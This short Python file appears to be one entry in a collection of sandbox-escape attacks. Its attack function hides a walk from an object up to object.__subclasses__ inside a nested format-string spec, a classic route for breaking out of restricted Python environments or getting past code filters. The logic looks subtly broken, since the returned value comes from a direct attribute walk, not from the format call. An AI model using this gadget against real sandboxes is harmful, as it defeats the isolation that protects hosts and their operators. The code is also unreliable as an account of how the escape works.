"""Class: format strings. Source: own find. Escape: the walk hides in a nested format spec."""


def helper():
    pass


def attack(model, tokenizer, address):
    text = "{0:{1.__class__.__mro__[1].__subclasses__}}"
    try:
        text.format("a", helper)
    except ValueError as e:
        return helper.__class__.__mro__[1].__subclasses__
